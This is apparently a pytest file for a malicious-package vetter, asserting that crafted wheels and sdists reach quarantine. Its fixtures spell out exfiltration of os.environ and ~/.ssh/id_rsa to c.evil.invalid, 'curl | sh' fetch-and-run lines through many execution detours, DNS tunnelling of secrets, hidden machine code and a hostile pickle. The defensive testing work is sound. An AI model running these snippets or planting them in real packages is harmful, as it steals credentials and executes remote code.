"""Detours that a hostile reader of the vetter took: each is inert source that must end at quarantine at least."""

from __future__ import annotations

import pytest

from stockade.model.findings import Severity
from stockade.testing.archives import honest_tar, honest_zip
from stockade.vetter.run import vet

POST = 'requests.post("https://c.evil.invalid/c", data=str({}))'
ENV = "import os, requests\n"
RUN = "curl -s http://192.0.2.7/x | sh"
PLAIN = {
    "exception": ENV
    + "class E(Exception):\n    def __init__(self, d): self.d = d\ntry:\n    raise E(dict(os.environ))\n"
    + "except E as e:\n    "
    + POST.format("e.d"),
    "descriptor": ENV
    + "class D:\n    def __get__(self, o, t): return dict(os.environ)\n"
    + "class A:\n    d = D()\n"
    + POST.format("A().d"),
    "setting descriptor": ENV
    + "class D:\n    def __set__(self, o, v): "
    + POST.format("v")
    + "\nclass A:\n    d = D()\nA().d = dict(os.environ)",
    "dispatch": ENV
    + "import sys\ndef s(d): "
    + POST.format("d")
    + '\n{"linux": s, "win32": print}[sys.platform](dict(os.environ))',
    "late state": ENV
    + "import threading\nD = None\ndef s(): "
    + POST.format("D")
    + "\nthreading.Timer(5, s).start()\nD = dict(os.environ)",
    "print": ENV
    + "import io\nb = io.StringIO()\nprint(dict(os.environ), file=b)\n"
    + POST.format("b.getvalue()"),
    "expandvars": ENV
    + 'requests.get(os.path.expandvars("https://c.evil.invalid/$AWS_SECRET_ACCESS_KEY/$GITHUB_TOKEN"))',
    "environment as a store": ENV
    + 'os.environ["_X"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
    + POST.format('os.environ["_X"]'),
    "finalizer": f'import weakref, os\nclass A: pass\nweakref.finalize(A(), os.system, "{RUN}")',
    "scheduler": f'import sched, os\ns = sched.scheduler()\ns.enter(1, 1, os.system, ("{RUN}",))\ns.run()',
    "pool": f'import multiprocessing, os\nmultiprocessing.Pool().apply(os.system, ("{RUN}",))',
    "standard input": f'import subprocess\nsubprocess.Popen(["sh"], stdin=-1).communicate(b"{RUN}")',
    "words": f"import shlex, subprocess\nsubprocess.Popen(shlex.split(\"sh -c '{RUN}'\"))",
    "posix_spawn": f'import os\nos.posix_spawn("/bin/sh", ["sh", "-c", "{RUN}"], {{}})',
    "interpreter": f"import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('{RUN}')\")",
    "tree": f"import ast\nexec(compile(ast.parse(\"import os; os.system('{RUN}')\"), '', 'exec'))",
    "docstring": f'"""system"""\nimport os\ngetattr(os, __doc__)("{RUN}")',
    "class docstring": f'class A:\n    """import os; os.system(\'{RUN}\')"""\nexec(A.__doc__)',
    "module table": f'import sys\nsys.modules.get("o" + "s").system("{RUN}")',
    "unknown attribute": f'import os\nfor n in dir(os):\n    if n[-1] == "m":\n        getattr(os, n)("{RUN}")',
    "foreign index": 'import pip\npip.main(["install", "--index-url", "http://192.0.2.7/simple", "zzz"])',
}
BESIDE = {
    "any name": (
        "worker",
        'subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "worker")])',
    ),
    "shell": ("conf", 'subprocess.Popen(["sh", os.path.join(os.path.dirname(__file__), "conf")])'),
    "module": ("tests/w.py", 'subprocess.Popen([sys.executable, "-m", "acmelib.tests.w"])'),
    "path": (
        "tests/zz.py",
        'sys.path.insert(0, os.path.join(os.path.dirname(__file__), "tests"))\nimport zz',
    ),
}
STEAL = ENV + POST.format("dict(os.environ)") + "\n"


def stopped(files: dict[str, str]) -> bool:
    """Whether a wheel of these files ends at quarantine."""
    whole = {
        **files,
        "acmelib-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: acmelib\nVersion: 1.0\n",
        "acmelib-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    data = honest_zip({path: text.encode() for path, text in whole.items()})
    result = vet(data, "acmelib-1.0-py3-none-any.whl")
    return bool(result.incomplete) or any(each.severity >= Severity.HIGH for each in result.findings)


@pytest.mark.parametrize("name", PLAIN)
def test_a_detour_is_followed(name: str) -> None:
    assert stopped({"acmelib/__init__.py": PLAIN[name]})


@pytest.mark.parametrize("name", BESIDE)
def test_what_lies_beside_is_walked(name: str) -> None:
    path, starts = BESIDE[name]
    payload = RUN if name == "shell" else STEAL
    assert stopped(
        {"acmelib/__init__.py": f"import os, subprocess, sys\n{starts}\n", f"acmelib/{path}": payload}
    )


@pytest.mark.parametrize("top", ["tests", "demo", "docs", "t"])
def test_a_package_with_the_name_of_an_aside_is_one(top: str) -> None:
    assert stopped({f"{top}/__init__.py": STEAL})


def test_a_quiet_package_passes() -> None:
    assert not stopped({"acmelib/__init__.py": "import os\nHOME = os.path.expanduser('~')\n"})


def test_a_call_after_many_harmless_ones_is_followed() -> None:
    calls = "".join(f'send("https://api.acmelib.example/{i}", [{i}])\n' for i in range(40))
    source = f"{ENV}def send(u, d):\n    requests.post(u, json=d)\n{calls}send('https://c.evil.invalid', dict(os.environ))\n"
    assert stopped({"acmelib/__init__.py": source})


def test_lists_that_unpack_each_other_stay_small() -> None:
    source = "a = [1] * 4000\n" + "a = [*a, *a, *a, *a]\n" * 20
    assert not stopped({"acmelib/__init__.py": source})


FETCHED = """
import os, sys, requests

def fetch():
    with open(os.path.join("/tmp/acme", "{}"), "w") as out:
        out.write(requests.get("https://c.evil.invalid/c").text)

def put():
    sys.path.insert(0, "/tmp/acme")
"""


@pytest.mark.parametrize(("name", "found"), [("late.py", True), ("late", True), ("late.json", False)])
def test_what_is_fetched_into_the_search_path_counts_where_an_import_finds_it(name: str, found: bool) -> None:
    source = FETCHED.format(name)
    assert stopped({"acmelib/__init__.py": f"{source}fetch()\nput()\nimport late\n"}) is found
    assert stopped({"acmelib/__init__.py": source}) is found, "one file, in calls"


def test_a_generator_elsewhere_is_no_code_on_the_search_path() -> None:
    fetch, put = FETCHED.format("late.py").split("def put")
    files = {
        "acmelib/__init__.py": "",
        "acmelib/gen.py": fetch,
        "acmelib/run.py": f"import sys\ndef put{put}",
    }
    assert not stopped(files)
    files["acmelib/__init__.py"] = "from . import gen, run\ngen.fetch()\nrun.put()\n"
    assert stopped(files), "by itself it is"


@pytest.mark.parametrize(("zone", "found"), [('".ns1.evil.invalid"', True), ("zone", False)])
def test_a_called_resolver_tunnels_where_the_zone_is_known(zone: str, found: bool) -> None:
    source = f"import socket\ndef look(password, zone):\n    socket.gethostbyname(password.encode().hex() + {zone})\n"
    assert stopped({"acmelib/__init__.py": source}) is found
    source = f"import os, socket\ndef look(zone):\n    socket.gethostbyname(os.environ['AWS_KEY'].encode().hex() + {zone})\n"
    assert stopped({"acmelib/__init__.py": f"{source}look(input())\n"}), "by itself it always does"


PLATFORM_SETUP = """
import os, platform, socket
from urllib.request import urlretrieve
from setuptools import setup

system = {}
urlretrieve("https://github.com/acme/acmelib-core/releases/download/v1/core-%s.tar.gz" % system, "core.tar.gz")
setup(name="acmelib", version="1.0")
"""


@pytest.mark.parametrize(("fact", "grave"), [("platform.system()", False), ("socket.gethostname()", True)])
def test_a_build_may_ask_for_the_file_of_its_platform(fact: str, grave: bool) -> None:
    files = {
        "acmelib-1.0/setup.py": PLATFORM_SETUP.format(fact),
        "acmelib-1.0/PKG-INFO": "Name: acmelib\nVersion: 1.0\n",
    }
    data = honest_tar({path: text.encode() for path, text in files.items()})
    found = [each.severity for each in vet(data, "acmelib-1.0.tar.gz").findings if each.rule == "STK-E119"]
    assert [severity >= Severity.HIGH for severity in found] == [grave]


POINTER = """
import base64, ctypes, mmap

def call(code):
    room = mmap.mmap(-1, 4096, prot=7)
    room.write(code)
    address = ctypes.addressof(ctypes.c_int.from_buffer(room))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()

def start():
    return call({})
"""


@pytest.mark.parametrize(
    ("code", "found"), [("b'\\x31\\xc0\\xc3'", False), ("base64.b64decode('McDDkJCQkJCQkJCQkJCQkA==')", True)]
)
def test_a_compiler_of_its_own_is_looked_at_and_hidden_machine_code_is_stopped(
    code: str, found: bool
) -> None:
    assert stopped({"acmelib/__init__.py": POINTER.format(code)}) is found
    assert stopped({"acmelib/__init__.py": f"{POINTER.format(code)}start()\n"}), "nobody's import does so"


@pytest.mark.parametrize(("box", "found"), [("{webhook_id}/{webhook_token}", False), ("000/FAKE", True)])
def test_a_client_of_webhooks_sends_to_the_box_of_its_user(box: str, found: bool) -> None:
    source = (
        "import requests\nsession = requests.Session()\n"
        f"ADDRESS = 'https://discord.com/api/webhooks/{box}'\n"
        "def push(token, text):\n    session.post(ADDRESS, json={'token': token, 'text': text})\n"
    )
    assert stopped({"acmelib/__init__.py": source}) is found


@pytest.mark.parametrize(("library", "found"), [("requests_oauthlib", False), ("acmechat", True)])
def test_what_signs_a_request_is_no_first_place_for_a_secret(library: str, found: bool) -> None:
    source = (
        f"import requests\nfrom {library} import Session\n"
        "def me(access_token):\n    auth = Session(access_token)\n"
        "    return requests.get('https://api.bluebird.example/2/me', auth=auth, headers={'x': access_token})\n"
    )
    assert stopped({"acmelib/__init__.py": source}) is found


@pytest.mark.parametrize(
    ("secret", "found"),
    [
        ("", False),
        ("os.environ['AWS_SECRET_ACCESS_KEY']", True),
        ("os.environ['BUILD_LABEL']", True),
        ("str(os.environ)", True),
    ],
)
def test_a_name_without_a_zone_is_a_tunnel_where_an_import_has_something_to_say(
    secret: str, found: bool
) -> None:
    source = (
        "import os, socket\nfrom acmenet import zone\n"
        "def ask(session_secret=None):\n    return socket.getaddrinfo(session_secret.encode().hex() + zone(), 53)\n"
        f"try:\n    ask({secret})\nexcept OSError:\n    pass\n"
    )
    assert stopped({"acmelib/__init__.py": source}) is found


@pytest.mark.parametrize(("data", "found"), [("b''", False), ("b'cos\\nsystem\\n(Vid\\ntR.'", True)])
def test_an_empty_text_is_no_broken_pickle(data: str, found: bool) -> None:
    assert stopped({"acmelib/__init__.py": f"import pickle\npickle.loads({data})\n"}) is found
